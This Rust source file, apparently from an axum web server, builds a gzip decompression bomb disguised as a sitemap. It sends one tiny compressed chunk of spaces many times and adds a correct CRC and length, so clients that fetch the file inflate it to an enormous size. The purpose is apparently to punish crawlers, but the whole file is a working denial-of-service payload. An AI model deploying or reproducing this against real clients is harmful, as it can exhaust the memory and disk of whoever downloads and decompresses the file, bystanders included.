//! A small file that inflates to a huge sitemap.

use axum::body::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

use super::pages::{Document, GZIP, NAMESPACE};

/// A gzip file (RFC 1952) of one member that inflates to a sitemap's start and then nothing but spaces.
///
/// After a full flush the compressor has no state, so one compressed chunk can be sent repeatedly.
pub(super) struct Bomb {
    start: Bytes,
    chunk: Bytes,
    times: u64,
    end: Bytes,
}

impl Bomb {
    const CHUNK: usize = 1 << 24;

    pub(super) fn new(bytes: u64) -> Self {
        let text = format!(r#"<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="{NAMESPACE}">"#);
        let spaces = vec![b' '; Self::CHUNK];
        let times = bytes.div_ceil(Self::CHUNK as u64);
        let (mut all, mut chunk) = (Crc::new(), Crc::new());
        all.update(text.as_bytes());
        chunk.update(&spaces);
        (0..times).for_each(|_| all.combine(&chunk));
        let header = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        let last_block = [3, 0];
        Self {
            start: [&header[..], &deflate(text.as_bytes())].concat().into(),
            chunk: deflate(&spaces).into(),
            times,
            end: [
                &last_block[..],
                &all.sum().to_le_bytes(),
                &all.amount().to_le_bytes(),
            ]
            .concat()
            .into(),
        }
    }

    pub(super) fn document(&self) -> Document {
        Document::repeated(
            GZIP,
            self.start.clone(),
            self.chunk.clone(),
            self.times,
            self.end.clone(),
        )
    }
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut output = Vec::with_capacity(bytes.len() / 500 + 1024);
    let mut compress = Compress::new(Compression::best(), false);
    compress
        .compress_vec(bytes, &mut output, FlushCompress::Full)
        .expect("deflating to memory does not fail");
    assert_eq!(
        compress.total_in(),
        bytes.len() as u64,
        "the output has room for all"
    );
    output
}
